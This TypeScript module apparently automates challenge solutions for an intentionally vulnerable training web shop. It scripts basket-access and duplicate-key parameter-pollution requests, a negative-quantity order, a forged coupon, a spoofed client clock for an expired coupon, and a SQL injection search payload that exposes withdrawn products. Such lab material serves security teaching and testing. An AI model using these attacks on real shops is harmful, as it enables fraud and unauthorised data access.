import { campaignCouponData, monthlyCoupon } from '@pulp/shared'
import request from 'supertest'
import type { AttackTarget, Attacks } from '../../lib/attacks'
import { authorised, expectStatus, logInSeeded, registerAndLogIn, type Session } from '../../testing/attack-steps'

/** The body the basket check reads the first BasketId of, and the insert the last one (JSON keeps the last). */
export const twoBasketIds = (own: number, other: number) => `{"ProductId": 14, "BasketId": "${own}", "quantity": 1, "BasketId": "${other}"}`

/** The search injection that ends the query before its `deletedAt IS NULL`, listing withdrawn products too. */
export const DELETED_TOO = "'))--"
/** WMNSDY2019 with its campaign day (8 March 2019) as the client's midnight: what a browser with that clock sends. */
export const EXPIRED_CAMPAIGN_COUPON = campaignCouponData('WMNSDY2019', 1551999600000)
export const FORGED_DISCOUNT = 80

/** Puts a product into the customer's basket as the product list's button does; resolves with the basket item. */
export async function addToBasket(target: AttackTarget, customer: Session, ProductId: number, quantity = 1): Promise<{ id: number }> {
  const added = await authorised(target, customer).post('/api/BasketItems').send({ ProductId, BasketId: customer.bid, quantity })
  return expectStatus(added, 200).body.data
}

/** Checks the basket out with the given payment details; resolves with the order confirmation id. */
export async function checkOut(target: AttackTarget, customer: Session, details: Record<string, unknown> = {}): Promise<string> {
  const placed = expectStatus(await authorised(target, customer).post(`/rest/basket/${customer.bid}/checkout`).send(details), 200)
  return placed.body.orderConfirmation
}

/** A new customer with one apple juice in the basket. */
async function shopper(target: AttackTarget): Promise<Session> {
  const customer = await registerAndLogIn(target)
  await addToBasket(target, customer, 1)
  return customer
}

const jim = (target: AttackTarget) => logInSeeded(target, 'jim@juice-sh.op')

export const basketAttacks = {
  // any logged-in customer may open any basket by its id
  basketAccessChallenge: async (target) => authorised(target, await jim(target)).get('/rest/basket/1'),
  basketManipulateChallenge: async (target) => {
    const customer = await jim(target)
    return authorised(target, customer).post('/api/BasketItems').set('Content-Type', 'application/json').send(twoBasketIds(customer.bid, 1))
  },
  // the quantity is checked when an item is added, not when it is changed
  negativeOrderChallenge: async (target) => {
    const customer = await registerAndLogIn(target)
    const item = await addToBasket(target, customer, 1)
    expectStatus(await authorised(target, customer).put(`/api/BasketItems/${item.id}`).send({ quantity: -100 }), 200)
    return checkOut(target, customer)
  },
  // coupons are z85 of "MMMYY-NN" with no secret: anyone can make this month's with any discount
  forgedCouponChallenge: async (target) => {
    const customer = await shopper(target)
    const code = encodeURIComponent(monthlyCoupon(FORGED_DISCOUNT))
    expectStatus(await authorised(target, customer).put(`/rest/basket/${customer.bid}/coupon/${code}`), 200)
    return checkOut(target, customer)
  },
  // the checkout trusts the client's clock, sent along with the campaign code
  manipulateClockChallenge: async (target) => {
    const customer = await shopper(target)
    return checkOut(target, customer, { couponData: EXPIRED_CAMPAIGN_COUPON })
  },
  // the withdrawn Christmas box is still orderable by its id, which the search injection reveals
  christmasSpecialChallenge: async (target) => {
    const search = expectStatus(await request(target).get('/rest/products/search').query({ q: DELETED_TOO }), 200)
    const box = (search.body.data as { id: number; name: string }[]).find((product) => product.name.startsWith('Christmas Super-Surprise-Box'))
    if (!box) throw new Error('the search listed no Christmas Super-Surprise-Box')
    const customer = await registerAndLogIn(target)
    await addToBasket(target, customer, box.id)
    return checkOut(target, customer)
  },
} satisfies Attacks
